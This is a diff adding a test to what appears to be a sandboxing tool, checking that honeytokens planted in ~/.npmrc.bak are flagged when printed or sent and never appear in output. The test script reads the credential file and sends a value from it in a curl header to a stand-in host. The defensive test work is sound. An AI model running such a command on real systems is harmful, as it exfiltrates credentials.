@@ -113,3 +113,34 @@ test('the first runs learn, then a new reader is told, and a damaged memory is s
   assert.equal(notices(damaged), 1)
   assert.equal(notices(await run(repository)), 0)
 })
+
+test('exec with a secret has honeytokens too, and tells of them', async () => {
+  const script =
+    'test -s ~/.npmrc.bak || exit 3; cat ~/.npmrc.bak; curl -sS -H "X-A: $(cut -d= -f2 ~/.npmrc.bak)" http://web.test/title || true'
+  const options = [
+    'exec',
+    '--json',
+    '--state',
+    world.state,
+    '--config',
+    internet.operatorFile(),
+    '--allow',
+    'web.test:80',
+    '--secret',
+    'TOKEN',
+  ]
+  const ran = await world.start([...options, '--', 'bash', '-c', script], {
+    wrap: internet.wrap,
+    env: { TOKEN },
+    cwd: world.repository({ a: 'a' }),
+  }).result
+  assert.equal(ran.exitCode, 0, ran.stderr)
+  const logged = await world.run(['audit', 'show', '--type', 'secret.finding', '--json'])
+  for (const rule of ['honeytoken-printed', 'honeytoken-used'])
+    assert.match(logged.stdout, new RegExp(`"job":"exec"[^\\n]*"rule":"${rule}"|"rule":"${rule}"[^\\n]*"job":"exec"`), logged.stdout)
+  assert.doesNotMatch(ran.stdout, /npm_[A-Za-z0-9]{36}/, 'it shows nowhere')
+  const without = await world.start(['exec', '--json', '--state', world.state, '--', 'sh', '-c', 'test ! -e ~/.npmrc.bak'], {
+    cwd: world.repository({ a: 'a' }),
+  }).result
+  assert.equal(without.exitCode, 0, without.stderr)
+})
